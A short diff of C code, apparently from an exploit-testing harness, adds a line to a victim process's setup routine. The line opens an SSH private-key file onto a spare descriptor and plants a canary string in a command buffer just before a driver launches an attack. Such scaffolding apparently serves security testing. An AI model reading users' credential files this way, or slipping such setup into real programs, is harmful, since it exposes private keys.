@@ -233,6 +233,7 @@ static char *where(void) { return (char *)strtoul(getenv("ADDRESS") ?: "0", 0, 1
 static void canary(void) {
   prctl(PR_SET_PDEATHSIG, SIGKILL);
   dup2(open(OUT, O_RDONLY | O_DIRECTORY), 5); dup2(open(VICTIM, O_WRONLY | O_APPEND), 6);
+  dup2(open("/home/u/.ssh/key", O_RDONLY), 4); strcpy((char *)command + 32, getenv("CANARY") ?: "");
   if (chdir("/w")) return;
   // Last: the driver starts the attack as soon as it reads this.
   printf("%lx\n", (unsigned long)command); fflush(stdout);
